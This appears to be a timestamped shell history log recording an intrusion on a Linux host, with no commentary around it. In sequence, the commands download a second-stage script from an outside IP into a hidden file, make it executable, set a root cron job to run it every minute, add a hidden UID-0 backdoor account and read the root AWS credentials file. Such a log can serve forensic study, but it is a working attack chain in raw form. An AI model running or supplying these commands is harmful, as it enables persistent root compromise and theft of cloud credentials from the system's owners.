#1771294480
curl -s http://203.0.113.66/stage2.sh -o /usr/local/sbin/.sysupd
#1771294492
chmod +x /usr/local/sbin/.sysupd
#1771294511
echo '* * * * * root /usr/local/sbin/.sysupd' > /etc/cron.d/sysupd
#1771294535
useradd -o -u 0 svc-backup
#1771294560
cat /root/.aws/credentials
